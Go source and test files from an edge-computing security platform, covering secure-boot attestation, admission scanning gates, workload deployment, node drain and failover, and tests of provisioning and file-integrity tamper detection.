	// closed flips on the first Close. New deployments are refused with a
	// *ClosedError afterwards; telemetry keeps the spine's post-close
	// contract (late incidents apply synchronously).
	closed atomic.Bool

	// Durable state (see persist.go). store is nil unless WithStore was
	// given; snapMu serializes snapshots (and lets close wait out an
	// in-flight one); persistMu keeps the incident log append and its
	// snapshot mirror (incMirror) in lockstep.
	store      persist.Store
	snapEvery  int
	mutCount   atomic.Int64 // records since the last snapshot trigger
	snapSize   atomic.Int64 // last snapshot's size (adaptive cadence)
	snapMu     sync.Mutex
	persistMu  sync.Mutex
	incMirror  []persist.Incident
	storeClose sync.Once
	// storeErr holds the first persist failure (sticky, type error);
	// storeFail guards the one-time operator signal when it happens.
	storeErr  atomic.Value
	storeFail sync.Once

	// Federation state (see federation.go). Federation is nil unless
	// WithFederation was given; fedClusters lists every member cluster
	// (the default cluster first) for fan-out operations that must hit
	// all of them (scanner registration, quota defaults).
	Federation  *federation.Federation
	fedMembers  []FederationMember
	fedClusters []*orchestrator.Cluster

	// Far-edge state (see faredge.go).
	feMu              sync.Mutex
	farEdge           map[string]*farEdgeState
	farEdgeShadow     *orchestrator.Cluster
	farEdgeShadowOnce sync.Once
}

// New builds a platform with the given mitigation configuration.
func New(cfg Config, opts ...Option) (*Platform, error) {
	ca, err := pki.NewCA("genio-root")
	if err != nil {
		return nil, fmt.Errorf("platform ca: %w", err)
	}
	signer, err := secureboot.NewSigner()
	if err != nil {
		return nil, fmt.Errorf("boot signer: %w", err)
	}
	reg := container.NewRegistry()
	settings := cfg.ClusterSettings
	settings.RBACEnabled = cfg.RBACEnabled
	cluster := orchestrator.NewCluster("genio-edge", reg, settings)
	cluster.VerifyImageSignatures = cfg.VerifyImageSignatures

	p := &Platform{
		Config:   cfg,
		CA:       ca,
		Signer:   signer,
		Registry: reg,
		Cluster:  cluster,
		Enforcer: sandbox.NewEnforcer(),
		Detector: falcoengine.NewEngine(falcoengine.DefaultRules()),
		RBAC:     rbac.NewEngine(),
		nodes:    make(map[string]*EdgeNode),
		spine:    newSpine(cfg),
		incview:  newIncidentView(),
	}
	// The incident log is itself a spine subscriber; the spine is fresh,
	// so registration cannot fail.
	if _, err := p.spine.Subscribe("core-incident-log", []events.Topic{events.TopicIncident}, p.incview.batch); err != nil {
		return nil, fmt.Errorf("incident view: %w", err)
	}
	p.alertSink = falcoengine.SpineSink(p.spine)
	cluster.RBAC = p.RBAC
	cluster.SetAuditSink(p.publishAudit)
	cluster.SetWarmEventSink(p.publishWarmEvent)
	for _, opt := range opts {
		opt(p)
	}
	if p.now != nil {
		cluster.SetClock(p.now)
		p.Detector.SetTimeSource(p.now)
	}
	if len(p.fedMembers) > 0 {
		if err := p.initFederation(); err != nil {
			return nil, fmt.Errorf("federation: %w", err)
		}
	}
	if cfg.AdmissionScanning {
		p.registerScanners()
	}
	if p.store != nil {
		// Recover BEFORE installing the mutation sink, so the import is
		// not re-logged; every mutation after this point is durable.
		if err := p.recoverFromStore(); err != nil {
			return nil, fmt.Errorf("recover store: %w", err)
		}
		cluster.SetMutationSink(p.persistMutation)
	}
	return p, nil
}

// registerScanners wires the M13/M14/M16 gates into cluster admission.
// Every gate's verdict depends only on the image content, so all register
// cacheable: a clean image scanned once deploys across the whole fleet
// without re-scanning, while rejections always re-run (and re-report).
// Every gate is context-aware: a cancelled deployment's scanners abandon
// their scan between files and record nothing — no incident, no cache
// entry.
func (p *Platform) registerScanners() {
	for _, c := range p.allClusters() {
		p.registerScannersOn(c)
	}
}

// registerScannersOn wires the gate set into one cluster's admission
// chain. Federated platforms register a scanner instance per member —
// the verdict cache is per-cluster, so each site warms its own.
func (p *Platform) registerScannersOn(c *orchestrator.Cluster) {
	malScanner, err := malware.NewScanner(malware.DefaultRules())
	if err != nil {
		// Stock rules are compile-tested; failure here is programmer error.
		panic(fmt.Sprintf("core: compile stock malware rules: %v", err))
	}
	c.RegisterAdmissionCachedCtx("malware-scan", func(ctx context.Context, spec orchestrator.WorkloadSpec, img *container.Image) error {
		rep, err := malScanner.ScanContext(ctx, img)
		if err != nil {
			return err
		}
		if rep.Malicious() {
			p.recordIncident(Incident{Source: "admission", Workload: spec.Name,
				Detail: fmt.Sprintf("malware rule %s matched in %s", rep.Matches[0].Rule, rep.Matches[0].Path), Blocked: true})
			return fmt.Errorf("malware detected: %s", rep.Matches[0].Rule)
		}
		return nil
	})

	bench := scap.DockerBenchProfile()
	c.RegisterAdmissionCachedCtx("docker-bench", func(ctx context.Context, spec orchestrator.WorkloadSpec, img *container.Image) error {
		rep, err := scap.EvaluateImageContext(ctx, bench, img)
		if err != nil {
			return err
		}
		for _, f := range rep.Failures() {
			if f.Severity >= scap.Critical {
				p.recordIncident(Incident{Source: "admission", Workload: spec.Name,
					Detail: fmt.Sprintf("docker-bench: %s", f.Title), Blocked: true})
				return fmt.Errorf("image hardening: %s", f.Title)
			}
		}
		return nil
	})

	scaScanner := sca.NewScanner(sca.DependencyDatabase())
	c.RegisterAdmissionCachedCtx("sca-gate", func(ctx context.Context, spec orchestrator.WorkloadSpec, img *container.Image) error {
		full, err := scaScanner.ScanContext(ctx, img)
		if err != nil {
			return err
		}
		rep := full.ReachableOnly()
		for _, f := range rep.Findings {
			if f.CVE.Severity() == vuln.SeverityCritical && f.CVE.Exploitable {
				p.recordIncident(Incident{Source: "admission", Workload: spec.Name,
					Detail: fmt.Sprintf("sca: %s in %s %s", f.CVE.ID, f.Dependency.Name, f.Dependency.Version), Blocked: true})
				return fmt.Errorf("exploitable critical dependency: %s", f.CVE.ID)
			}
		}
		return nil
	})

	sastScanner := sast.NewScanner(sast.DefaultRules())
	c.RegisterAdmissionCachedCtx("sast-gate", func(ctx context.Context, spec orchestrator.WorkloadSpec, img *container.Image) error {
		rep, err := sastScanner.ScanContext(ctx, img)
		if err != nil {
			return err
		}
		for _, f := range rep.Actionable() {
			if f.Severity == sast.Error {
				p.recordIncident(Incident{Source: "admission", Workload: spec.Name,
					Detail: fmt.Sprintf("sast: %s at %s:%d", f.RuleID, f.Path, f.Line), Blocked: true})
				return fmt.Errorf("static analysis: %s at %s:%d", f.Title, f.Path, f.Line)
			}
		}
		return nil
	})
}

// AddEdgeNode provisions an OLT through the infrastructure pipeline:
// host build (+M1/M2 hardening), signed boot chain (M5), attestation,
// storage unlock (M6), and FIM baseline (M7). Context-free compatibility
// wrapper over AddEdgeNodeContext.
func (p *Platform) AddEdgeNode(name string, capacity orchestrator.Resources) (*EdgeNode, error) {
	return p.AddEdgeNodeContext(context.Background(), name, capacity)
}

// AddEdgeNodeContext is AddEdgeNode with cancellation: the context is
// checked between the provisioning stages (boot, attestation, storage,
// PON bring-up, FIM baseline), so a cancelled or deadline-exceeded
// provisioning aborts without registering the node. Infrastructure
// built before the abort (host, TPM, encrypted volume) is abandoned,
// not released: those objects are local to the call and never
// registered anywhere, so the garbage collector reclaims them and a
// retried provisioning of the same name starts from scratch.
func (p *Platform) AddEdgeNodeContext(ctx context.Context, name string, capacity orchestrator.Resources) (*EdgeNode, error) {
	return p.addEdgeNodeOn(ctx, p.Cluster, name, capacity)
}

// addEdgeNodeOn is the provisioning pipeline body, parametrized on the
// scheduling cluster the finished node registers with (federated
// platforms route through AddEdgeNodeInContext; everything else targets
// the default cluster).
func (p *Platform) addEdgeNodeOn(ctx context.Context, target *orchestrator.Cluster, name string, capacity orchestrator.Resources) (*EdgeNode, error) {
	if p.closed.Load() {
		return nil, &ClosedError{Op: "add-edge-node"}
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	h := host.NewONLOLT(name)
	if p.Config.HardenOS {
		host.HardenONLOLT(h)
	}
	nodeTPM, err := tpm.New()
	if err != nil {
		return nil, fmt.Errorf("node tpm: %w", err)
	}
	fw := secureboot.NewFirmware(p.Signer.VendorPub, nodeTPM)
	fw.SecureBoot = p.Config.SecureBoot

	chain := []secureboot.Component{
		p.Signer.SignComponent(secureboot.StageShim, "shim", []byte("shim-15.8")),
		p.Signer.SignComponent(secureboot.StageBootloader, "grub", []byte("grub-2.06")),
		p.Signer.SignComponent(secureboot.StageKernel, "kernel", []byte("vmlinuz-onl-4.19")),
		p.Signer.SignComponent(secureboot.StageInitrd, "initrd", []byte("initrd-onl")),
		p.Signer.SignComponent(secureboot.StageConfig, "cmdline", []byte("mitigations=auto")),
	}
	res, err := fw.Boot(p.Signer.PlatformPub, chain)
	if err != nil {
		p.recordIncident(Incident{Source: "boot", Detail: fmt.Sprintf("node %s: %v", name, err), Blocked: true})
		return nil, fmt.Errorf("%w: %v", ErrBootFailed, err)
	}
	_ = res
	if err := ctx.Err(); err != nil {
		return nil, err
	}

	// Remote attestation against the golden chain values.
	attested := false
	if p.Config.SecureBoot {
		golden := secureboot.GoldenPCRs(chain)
		q, err := nodeTPM.Quote([]int{tpm.PCRKernel}, []byte(name+"-join"))
		if err != nil {
			return nil, fmt.Errorf("quote: %w", err)
		}
		if err := tpm.VerifyQuote(nodeTPM.AttestationPublicKey(), q,
			map[int]tpm.Digest{tpm.PCRKernel: golden[tpm.PCRKernel]}); err != nil {
			p.recordIncident(Incident{Source: "boot", Detail: fmt.Sprintf("node %s attestation: %v", name, err), Blocked: true})
			return nil, fmt.Errorf("%w: %v", ErrAttestFailed, err)
		}
		attested = true
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}

	vol, err := storage.CreateVolume(name+"-data", name+"-recovery-phrase")
	if err != nil {
		return nil, fmt.Errorf("volume: %w", err)
	}
	manual := false
	if p.Config.SealedStorage {
		cfg := storage.ClevisConfig{TPM: nodeTPM, PCRSelection: []int{tpm.PCRKernel}, HasTPMLibs: true}
		if err := vol.BindTPMSlot("clevis", cfg); err != nil {
			manual = true // Lesson-3 fallback
		} else {
			vol.Lock()
			if err := vol.UnlockTPM("clevis", nodeTPM); err != nil {
				return nil, fmt.Errorf("sealed unlock: %w", err)
			}
		}
	}

	if err := ctx.Err(); err != nil {
		return nil, err
	}

	oltID, err := p.CA.Issue(name, pki.RoleOLT)
	if err != nil {
		return nil, fmt.Errorf("olt identity: %w", err)
	}
	olt, err := pon.NewOLT(name, p.Config.PONMode, p.CA, oltID)
	if err != nil {
		return nil, fmt.Errorf("olt: %w", err)
	}

	var monitor *fim.Monitor
	if p.Config.FIMEnabled {
		monitor, err = fim.NewMonitor(h, nodeTPM, fim.Config{
			WatchPrefixes:   []string{"/etc/", "/usr/", "/boot/", "/opt/"},
			MutablePrefixes: []string{"/var/log/", "/var/lib/genio/"},
		})
		if err != nil {
			return nil, fmt.Errorf("fim: %w", err)
		}
		if err := monitor.Init(); err != nil {
			return nil, fmt.Errorf("fim baseline: %w", err)
		}
	}

	node := &EdgeNode{
		Name: name, Host: h, TPM: nodeTPM, Firmware: fw, Volume: vol,
		OLT: olt, FIM: monitor, Chain: chain, Attested: attested, ManualUnlock: manual,
	}
	p.nodeMu.Lock()
	p.nodes[name] = node
	p.nodeMu.Unlock()
	// A recovered cluster already holds this member's placements; re-running
	// the provisioning pipeline (re-attestation, fresh identity) must not
	// re-register it as an empty node and orphan them.
	if !target.HasNode(name) {
		target.AddNode(name, capacity)
	}
	return node, nil
}

// Node returns a provisioned edge node. Unknown names yield a typed
// *orchestrator.NodeNotFoundError wrapping ErrNoNode.
func (p *Platform) Node(name string) (*EdgeNode, error) {
	p.nodeMu.RLock()
	defer p.nodeMu.RUnlock()
	n, ok := p.nodes[name]
	if !ok {
		return nil, &orchestrator.NodeNotFoundError{Node: name, Err: ErrNoNode}
	}
	return n, nil
}

// Nodes returns all edge nodes.
func (p *Platform) Nodes() []*EdgeNode {
	p.nodeMu.RLock()
	defer p.nodeMu.RUnlock()
	out := make([]*EdgeNode, 0, len(p.nodes))
	for _, n := range p.nodes {
		out = append(out, n)
	}
	return out
}

// AttachONU issues a far-edge device identity (when the PON mode requires
// it) and activates the ONU on the named OLT. Context-free compatibility
// wrapper over AttachONUContext.
func (p *Platform) AttachONU(nodeName, serial string) (*pon.ONU, error) {
	return p.AttachONUContext(context.Background(), nodeName, serial)
}

// AttachONUContext is AttachONU with cancellation: the context is checked
// before identity issuance and before activation.
func (p *Platform) AttachONUContext(ctx context.Context, nodeName, serial string) (*pon.ONU, error) {
	if p.closed.Load() {
		return nil, &ClosedError{Op: "attach-onu"}
	}
	node, err := p.Node(nodeName)
	if err != nil {
		return nil, err
	}
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	var id *pki.Identity
	if p.Config.PONMode == pon.ModeAuthenticated {
		id, err = p.CA.Issue(serial, pki.RoleONU)
		if err != nil {
			return nil, fmt.Errorf("onu identity: %w", err)
		}
	}
	onu := pon.NewONU(serial, id)
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	if err := node.OLT.Activate(onu); err != nil {
		p.recordIncident(Incident{Source: "pon", Detail: fmt.Sprintf("onu %s activation: %v", serial, err), Blocked: true})
		return nil, err
	}
	return onu, nil
}

// Deploy admits a workload through the pipeline; on success a sandbox
// policy is attached when M17 is enabled. Context-free compatibility
// wrapper over DeployContext; for cancellable, observable deployments use
// DeployAsync (deployasync.go).
func (p *Platform) Deploy(subject string, spec orchestrator.WorkloadSpec) (*orchestrator.Workload, error) {
	return p.DeployContext(context.Background(), subject, spec)
}

// DeployContext admits a workload through the pipeline, honouring ctx:
// cancellation or deadline expiry aborts the in-flight admission fan-out
// without placing the workload, leaking pool goroutines, or warming the
// verdict cache, and returns a *orchestrator.CancelledError. Rejections
// are typed (see the orchestrator error taxonomy) and counted on the
// deploy.rejected metric; cancellations count on deploy.cancelled.
func (p *Platform) DeployContext(ctx context.Context, subject string, spec orchestrator.WorkloadSpec) (*orchestrator.Workload, error) {
	w, _, err := p.deployObserved(ctx, subject, spec, nil)
	return w, err
}

// deployObserved is the shared deploy body: the synchronous entry points
// pass a nil observer, the async future wires its lifecycle publisher in.
// The returned Placement is the commit-time snapshot; lifecycle events
// must report the node from it, not from the live *Workload, which a
// concurrent failover may rewrite.
func (p *Platform) deployObserved(ctx context.Context, subject string, spec orchestrator.WorkloadSpec, observe func(orchestrator.DeployStage)) (*orchestrator.Workload, orchestrator.Placement, error) {
	if p.closed.Load() {
		return nil, orchestrator.Placement{}, &ClosedError{Op: "deploy"}
	}
	if p.Config.TenantQuotas {
		// A default quota per tenant when none was set explicitly. Quotas
		// are per-cluster, so federated platforms seed every member.
		for _, c := range p.allClusters() {
			c.EnsureQuota(spec.Tenant, orchestrator.Resources{CPUMilli: 2000, MemoryMB: 4096})
		}
	}
	var (
		w      *orchestrator.Workload
		placed orchestrator.Placement
		err    error
	)
	switch {
	case p.Federation != nil:
		var at federation.Placement
		w, at, err = p.Federation.DeployObserved(ctx, subject, spec, observe)
		placed = orchestrator.Placement{Node: at.Node, VMID: at.VMID}
	case spec.Region != "":
		// A region constraint on a non-federated platform can never be
		// satisfied: there are no regions to match.
		err = &federation.FederationCapacityError{
			Workload: spec.Name, Tenant: spec.Tenant, Region: spec.Region,
		}
	default:
		w, placed, err = p.Cluster.DeployObserved(ctx, subject, spec, observe)
	}
	if err != nil {
		if errors.Is(err, orchestrator.ErrCancelled) {
			p.publishMetric("deploy.cancelled", 1, spec.Tenant)
		} else {
			p.publishMetric("deploy.rejected", 1, spec.Tenant)
		}
		return nil, orchestrator.Placement{}, err
	}
	if p.Config.SandboxEnabled {
		p.Enforcer.SetPolicy(spec.Name, sandbox.DefaultWorkloadPolicy())
	}
	p.publishMetric("deploy.admitted", 1, spec.Tenant)
	return w, placed, nil
}

// ObserveRuntime feeds a workload's event stream through enforcement (M17)
// and detection (M18) per the configuration, recording incidents. It
// returns how many events actually executed (enforcement truncates).
func (p *Platform) ObserveRuntime(events []trace.Event) int {
	executed := events
	if p.Config.SandboxEnabled {
		verdicts := p.Enforcer.Process(events)
		executed = executed[:len(verdicts)]
		for _, v := range verdicts {
			if v.Action == sandbox.ActionBlock {
				p.recordIncident(Incident{Source: "sandbox", Workload: v.Event.Workload,
					Detail: fmt.Sprintf("blocked %s %s", v.Event.Type, v.Event.Target), Blocked: true})
			}
		}
	}
	if p.Config.RuntimeMonitoring {
		// Alerts flow to the spine's falco.alert topic (raw detections
		// for subscribers) and into the incident log (the paper's
		// notification surface), exactly as before the spine existed.
		for _, a := range p.Detector.ConsumeAllTo(executed, p.alertSink) {
			p.recordIncident(Incident{Source: "falco", Workload: a.Event.Workload,
				Detail: a.Output, Blocked: false})
		}
	}
	// One runtime.events metric per workload present in the batch, so
	// per-workload volume aggregation stays correct for mixed streams.
	if len(executed) > 0 {
		perWorkload := make(map[string]int)
		for _, ev := range executed {
			perWorkload[ev.Workload]++
		}
		for wl, n := range perWorkload {
			p.publishMetric("runtime.events", float64(n), wl)
		}
	}
	return len(executed)
}

// RecordIncident appends to the platform incident log through the event
// spine. The platform's own pipeline uses it internally; external
// detectors integrating with a deployment may feed their findings in the
// same way.
func (p *Platform) RecordIncident(i Incident) {
	p.recordIncident(i)
}

func (p *Platform) recordIncident(i Incident) {
	if p.now != nil && i.AtMs == 0 {
		i.AtMs = p.now()
	}
	i.Seq = p.incview.seq.Add(1)
	p.persistIncident(i)
	err := p.spine.Publish(events.Event{
		Topic: events.TopicIncident, Key: incidentKey(i), AtMs: i.AtMs, Payload: i,
	})
	if err != nil {
		// Publishing after Close degrades to a synchronous append so
		// late incidents are never lost — the old bus's contract.
		p.incview.append(i)
	}
}

// Flush blocks until every event published before the call — incidents
// included — is delivered to every subscriber, so Incidents and
// IncidentCounts reflect it. Reads from the recording goroutine get this
// ordering automatically; cross-goroutine readers synchronize here.
func (p *Platform) Flush() {
	p.spine.Flush()
}

// FlushContext is Flush with bounded waiting: a done ctx abandons the
// wait and returns its error (delivery keeps progressing in the
// background — nothing is lost, the caller just stops waiting).
func (p *Platform) FlushContext(ctx context.Context) error {
	return p.spine.FlushContext(ctx)
}

// Close drains the event spine and stops its shard goroutines. It is
// idempotent and safe to call concurrently (every call blocks until the
// drain completes), and may interleave freely with Flush and
// RecordIncident. After Close the control plane refuses new work with a
// typed *ClosedError (Deploy, DeployAsync, AddEdgeNode, AttachONU) while
// telemetry degrades gracefully: late incidents are applied
// synchronously, PublishEvent returns events.ErrClosed.
func (p *Platform) Close() {
	// Drain the warm pool first, while the spine still accepts the flush
	// events: parked VMs do not outlive the platform, and the released
	// reservations keep the final snapshot's accounting honest.
	p.Cluster.FlushWarmSlots("close")
	p.closed.Store(true)
	p.spine.Close()
	// Graceful shutdown: final compacted snapshot, then release the store.
	// (Crash is the flush-only variant.)
	p.closeStore(true)
}

// ClosedError reports a control-plane operation on a closed platform.
// Unwrap exposes events.ErrClosed, so errors.Is(err, events.ErrClosed)
// identifies the class.
type ClosedError struct {
	// Op names the refused operation (deploy | add-edge-node | attach-onu
	// | watch).
	Op string
}

// Error names the refused operation.
func (e *ClosedError) Error() string { return "core: platform closed: " + e.Op }

// Unwrap exposes the spine's closed sentinel.
func (e *ClosedError) Unwrap() error { return events.ErrClosed }

// Incidents returns a copy of all recorded incidents.
func (p *Platform) Incidents() []Incident {
	p.spine.Flush()
	return p.incview.snapshot()
}

// IncidentCounts tallies incidents by source.
func (p *Platform) IncidentCounts() map[string]int {
	p.spine.Flush()
	return p.incview.countsBySource()
}
