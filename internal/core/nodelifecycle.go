package core

// Node lifecycle on the platform surface: cordon/uncordon/drain wrap
// the cluster verbs and put drain progress on the event spine — every
// DrainEvent publishes on the node.drain topic (keyed by node, so
// per-drain order is preserved) and the drain outcome lands on the
// metric topic, giving dashboards and the simulator the same view the
// caller gets synchronously.

import (
	"context"

	"genio/internal/events"
	"genio/internal/orchestrator"
)

// Cordon marks an edge node unschedulable: running workloads stay, new
// placements skip it. Idempotent.
func (p *Platform) Cordon(name string) error {
	if p.closed.Load() {
		return &ClosedError{Op: "cordon"}
	}
	return p.Cluster.Cordon(name)
}

// Uncordon returns an edge node to the schedulable pool. Idempotent.
func (p *Platform) Uncordon(name string) error {
	if p.closed.Load() {
		return &ClosedError{Op: "uncordon"}
	}
	return p.Cluster.Uncordon(name)
}

// Drain cordons the node and live-migrates its workloads onto the rest
// of the fleet through the scheduler (see orchestrator.Cluster.Drain
// for the full contract: cancellation stops at the next migration
// boundary and rolls the cordon back; completed migrations stay). Every
// step is published on the spine's node.drain topic; the outcome counts
// on node.drained / node.drain.stopped metrics.
func (p *Platform) Drain(ctx context.Context, name string) (*orchestrator.DrainResult, error) {
	return p.DrainObserved(ctx, name, nil)
}

// DrainObserved is Drain with a caller-supplied progress observer,
// invoked on the draining goroutine after each event publishes on the
// spine — so callers needing synchronous progress (CLIs, simulators
// pacing a virtual clock) do not have to bypass the platform surface
// and lose the node.drain telemetry.
func (p *Platform) DrainObserved(ctx context.Context, name string, observe func(orchestrator.DrainEvent)) (*orchestrator.DrainResult, error) {
	if p.closed.Load() {
		return nil, &ClosedError{Op: "drain"}
	}
	res, err := p.Cluster.DrainObserved(ctx, name, func(ev orchestrator.DrainEvent) {
		if p.now != nil && ev.AtMs == 0 {
			ev.AtMs = p.now()
		}
		_ = p.spine.Publish(events.Event{
			Topic: events.TopicNodeDrain, Key: ev.Node, AtMs: ev.AtMs, Payload: ev,
		})
		if observe != nil {
			observe(ev)
		}
	})
	if res != nil {
		if err == nil {
			p.publishMetric("node.drained", float64(len(res.Migrated)), name)
		} else {
			p.publishMetric("node.drain.stopped", float64(len(res.Remaining)), name)
		}
	}
	return res, err
}

// FailNode removes an edge node and reschedules its workloads through
// the scheduler (orchestrator.Cluster.FailNode), then deregisters the
// node's infrastructure from the platform. The failure outcome lands on
// the metric topic (node.failed, value = rescheduled count) so the
// spine sees node loss the same way it sees drains.
func (p *Platform) FailNode(name string) (*orchestrator.FailoverResult, error) {
	if p.closed.Load() {
		return nil, &ClosedError{Op: "fail-node"}
	}
	res, err := p.Cluster.FailNode(name)
	if err != nil {
		return nil, err
	}
	p.nodeMu.Lock()
	delete(p.nodes, name)
	p.nodeMu.Unlock()
	p.publishMetric("node.failed", float64(len(res.Rescheduled)), name)
	return res, nil
}
