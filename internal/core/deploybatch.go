package core

// Batch admission: a tenant CI pipeline (or the orchestration center
// rolling a fleet update) submits many workloads at once. Since API v2
// the batch is a thin fan-out over DeployAsync futures: every spec gets
// its own pipeline goroutine immediately, so spec i can be placing while
// spec j is still scanning — admission pipelines instead of barriering
// on a fixed worker pool. Each spec still runs the full Deploy pipeline
// independently — RBAC, verified pull, the scanner fan-out, quota
// reservation, scheduling — so one rejection never blocks its siblings,
// and every deployment's lifecycle streams on the deploy.lifecycle
// topic.

import (
	"context"
	"runtime"

	"genio/internal/orchestrator"
)

// DeployBatch admits every spec through the full deployment pipeline —
// the context-free compatibility wrapper over DeployBatchContext.
func (p *Platform) DeployBatch(subject string, specs []orchestrator.WorkloadSpec) ([]*orchestrator.Workload, []error) {
	return p.DeployBatchContext(context.Background(), subject, specs)
}

// batchInFlight bounds how many of a batch's futures run at once:
// enough headroom over GOMAXPROCS that admission keeps pipelining
// (scans of one spec overlap placement of another), without launching
// an unbounded goroutine herd for huge batches.
func batchInFlight() int {
	return 4 * runtime.GOMAXPROCS(0)
}

// DeployBatchContext admits every spec concurrently via DeployAsync and
// waits for all futures. Results are positional: workloads[i] and
// errs[i] report spec[i]; exactly one of the pair is non-nil. In-flight
// futures are bounded (a few multiples of GOMAXPROCS): slots free in
// completion order, so a slow early spec never stalls the rest of the
// batch behind it. Cancelling ctx aborts every in-flight deployment in
// the batch (each reports a *orchestrator.CancelledError);
// already-placed specs stay placed.
func (p *Platform) DeployBatchContext(ctx context.Context, subject string, specs []orchestrator.WorkloadSpec) ([]*orchestrator.Workload, []error) {
	workloads := make([]*orchestrator.Workload, len(specs))
	errs := make([]error, len(specs))
	futures := make([]*Deployment, len(specs))
	sem := make(chan struct{}, batchInFlight())
	for i, spec := range specs {
		sem <- struct{}{}
		d, err := p.DeployAsync(ctx, subject, spec)
		if err != nil {
			<-sem
			errs[i] = err
			continue
		}
		go func() { <-d.Done(); <-sem }()
		futures[i] = d
	}
	for i, d := range futures {
		if d != nil {
			workloads[i], errs[i] = d.Result()
		}
	}
	return workloads, errs
}
