package core

// Batch admission: a tenant CI pipeline (or the orchestration center
// rolling a fleet update) submits many workloads at once; the platform
// admits them concurrently over a bounded worker pool. Each spec runs the
// full Deploy pipeline independently — RBAC, verified pull, the scanner
// fan-out, quota reservation, scheduling — so one rejection never blocks
// its siblings.

import (
	"genio/internal/orchestrator"
	"genio/internal/workpool"
)

// DeployBatch admits every spec through the full deployment pipeline,
// fanning out over min(len(specs), GOMAXPROCS) workers. Results are
// positional: workloads[i] and errs[i] report spec[i]; exactly one of the
// pair is non-nil.
func (p *Platform) DeployBatch(subject string, specs []orchestrator.WorkloadSpec) ([]*orchestrator.Workload, []error) {
	workloads := make([]*orchestrator.Workload, len(specs))
	errs := make([]error, len(specs))
	workpool.Run(len(specs), 0, func(i int) {
		workloads[i], errs[i] = p.Deploy(subject, specs[i])
	})
	return workloads, errs
}
