package core

import (
	"strings"
	"testing"

	"genio/internal/host"
)

func TestFleetSecurityReport(t *testing.T) {
	p := securePlatform(t)
	addNode(t, p, "olt-01")
	addNode(t, p, "olt-02")
	rep, err := p.FleetSecurityReport(nil)
	if err != nil {
		t.Fatalf("FleetSecurityReport: %v", err)
	}
	if len(rep.Nodes) != 2 {
		t.Fatalf("nodes = %d", len(rep.Nodes))
	}
	for _, n := range rep.Nodes {
		if !n.Attested {
			t.Errorf("node %s not attested", n.Name)
		}
		if n.StorageLocked {
			t.Errorf("node %s storage locked", n.Name)
		}
		if n.Skipped != 0 {
			t.Errorf("node %s: %d packages skipped despite tuned scanner", n.Name, n.Skipped)
		}
		if n.FIMAlerts != 0 {
			t.Errorf("node %s: %d FIM alerts on pristine host", n.Name, n.FIMAlerts)
		}
		if n.Findings == 0 {
			t.Errorf("node %s: 0 findings on unpatched fixture host", n.Name)
		}
	}
	if len(rep.KBOM) == 0 {
		t.Fatal("no KBOM findings")
	}
	if len(rep.Plan.Actions) == 0 {
		t.Fatal("empty patch plan")
	}
}

func TestFleetReportDetectsTamper(t *testing.T) {
	p := securePlatform(t)
	n := addNode(t, p, "olt-01")
	n.Host.WriteFile(host.File{Path: "/usr/sbin/sshd", Mode: 0o755, Owner: "root",
		Content: []byte("backdoored")})
	rep, err := p.FleetSecurityReport(nil)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Nodes[0].FIMAlerts != 1 {
		t.Fatalf("FIMAlerts = %d, want 1", rep.Nodes[0].FIMAlerts)
	}
}

func TestFleetReportRender(t *testing.T) {
	p := securePlatform(t)
	addNode(t, p, "olt-01")
	rep, err := p.FleetSecurityReport(nil)
	if err != nil {
		t.Fatal(err)
	}
	out := rep.Render()
	for _, needle := range []string{"olt-01", "patch plan", "KBOM", "emergency"} {
		if !strings.Contains(out, needle) {
			t.Errorf("render missing %q", needle)
		}
	}
}

func TestFleetReportLegacyNodes(t *testing.T) {
	p := legacyPlatform(t)
	addNode(t, p, "olt-01")
	rep, err := p.FleetSecurityReport(nil)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Nodes[0].Attested {
		t.Fatal("legacy node reported attested")
	}
	// No FIM on legacy nodes: zero alerts, no error.
	if rep.Nodes[0].FIMAlerts != 0 {
		t.Fatal("legacy node reported FIM alerts")
	}
}
