package core

import (
	"errors"
	"strings"
	"testing"

	"genio/internal/container"
	"genio/internal/orchestrator"
	"genio/internal/pon"
	"genio/internal/rbac"
	"genio/internal/trace"
)

func securePlatform(t *testing.T) *Platform {
	t.Helper()
	p, err := New(SecureConfig())
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return p
}

func legacyPlatform(t *testing.T) *Platform {
	t.Helper()
	p, err := New(LegacyConfig())
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return p
}

func addNode(t *testing.T, p *Platform, name string) *EdgeNode {
	t.Helper()
	n, err := p.AddEdgeNode(name, orchestrator.Resources{CPUMilli: 8000, MemoryMB: 16384})
	if err != nil {
		t.Fatalf("AddEdgeNode(%s): %v", name, err)
	}
	return n
}

// pushSigned publishes an image signed by a trusted publisher.
func pushSigned(t *testing.T, p *Platform, img *container.Image) {
	t.Helper()
	pub, err := container.NewPublisher("acme")
	if err != nil {
		t.Fatal(err)
	}
	p.Registry.TrustPublisher("acme", pub.PublicKey())
	sig := pub.Sign(img)
	p.Registry.Push(img, &sig)
}

func allowDeploy(t *testing.T, p *Platform, subject, tenant string) {
	t.Helper()
	p.RBAC.SetRole(rbac.Role{Name: tenant + "-deployer", Permissions: []rbac.Permission{
		{Verb: "create", Resource: "workloads", Namespace: tenant},
	}})
	if err := p.RBAC.Bind(subject, tenant+"-deployer"); err != nil {
		t.Fatal(err)
	}
}

func TestSecureNodeProvisioning(t *testing.T) {
	p := securePlatform(t)
	n := addNode(t, p, "olt-01")
	if !n.Attested {
		t.Fatal("node not attested")
	}
	if n.Volume.Locked() {
		t.Fatal("volume locked after provisioning")
	}
	if n.ManualUnlock {
		t.Fatal("sealed unlock fell back to manual with TPM libs available")
	}
	if n.FIM == nil {
		t.Fatal("FIM not initialized")
	}
	// Hardened host passes the baseline.
	if svc, _ := n.Host.Service("telnetd"); svc.Enabled {
		t.Fatal("host not hardened")
	}
}

func TestLegacyNodeProvisioning(t *testing.T) {
	p := legacyPlatform(t)
	n := addNode(t, p, "olt-01")
	if n.Attested {
		t.Fatal("legacy node should not attest")
	}
	if n.FIM != nil {
		t.Fatal("legacy node should have no FIM")
	}
	if svc, _ := n.Host.Service("telnetd"); !svc.Enabled {
		t.Fatal("legacy host unexpectedly hardened")
	}
}

func TestONUOnboarding(t *testing.T) {
	p := securePlatform(t)
	addNode(t, p, "olt-01")
	onu, err := p.AttachONU("olt-01", "onu-0001")
	if err != nil {
		t.Fatalf("AttachONU: %v", err)
	}
